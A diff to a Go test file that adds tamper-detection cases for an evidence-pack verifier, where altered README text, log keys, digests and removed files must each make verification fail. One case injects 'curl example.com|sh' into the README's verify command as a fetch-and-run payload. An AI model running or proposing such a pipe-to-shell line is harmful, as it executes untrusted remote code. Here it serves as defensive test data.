@@ -139,10 +139,22 @@ func TestTamperedPacks(t *testing.T) {
 			}
 			return all
 		}()...), false, "receipt_missing@0", 3},
-		{"it says it is a range", twoOf(gone(0), put(FileManifest, replace(`{"kind":"log"}`, `{"first":1,"kind":"range","last":`+fmt.Sprint(last)+`}`))), false, "", 0},
+		{"it says it is a range", twoOf(gone(0), put(FileManifest, replace(`{"kind":"log"}`, `{"first":1,"kind":"range","last":`+fmt.Sprint(last)+`}`)), l.retell), false, "", 0},
 		{"a range that says less", put(FileManifest, replace(`{"kind":"log"}`, `{"kind":"range","last":3}`)), false, "receipt_extra", 1},
 		{"receipts.jsonl lists another", put(FileList, replace(`"seq":3`, `"seq":4`)), false, "list_differs@-1", 1},
 		{"receipts.jsonl is gone", drop(FileList), false, "file_missing@-1", 3},
+
+		{"the README names another command", put(FileReadme, replace("writ pack verify .", "curl example.com|sh; writ pack verify .")), false, "readme_differs@-1", 1},
+		{"the README names another key", put(FileReadme, replace(l.logKey(), other.logKey())), false, "readme_differs@-1", 1},
+		{"the README shows another digest", put(FileReadme, func(b []byte) []byte {
+			digest := field(string(b), "--digest ", " ")
+			return bytes.Replace(b, []byte(digest), []byte(strings.Repeat("0", 64)), 1)
+		}), false, "readme_differs@-1", 1},
+		{"the README says more", put(FileReadme, func(b []byte) []byte { return append(b, "\nAll is well.\n"...) }), false, "readme_differs@-1", 1},
+		{"the README is gone", drop(FileReadme), false, "file_missing@-1", 3},
+		{"the log's key is another", put(FileLogKey, func([]byte) []byte { return []byte(other.logKey() + "\n") }), false, "log_key_differs@-1", 1},
+		{"the log's key has a word before it", put(FileLogKey, func(b []byte) []byte { return append([]byte("x"), b...) }), false, "log_key_differs@-1", 1},
+		{"the log's key is gone", drop(FileLogKey), false, "file_missing@-1", 3},
 
 		{"evidence is another's", swap(evidenceName(3), evidenceName(4)), false, "evidence_differs@3 evidence_differs@4", 1},
 		{"evidence is changed", put(evidenceName(3), replace("session", "Session")), false, "evidence_differs@3", 1},
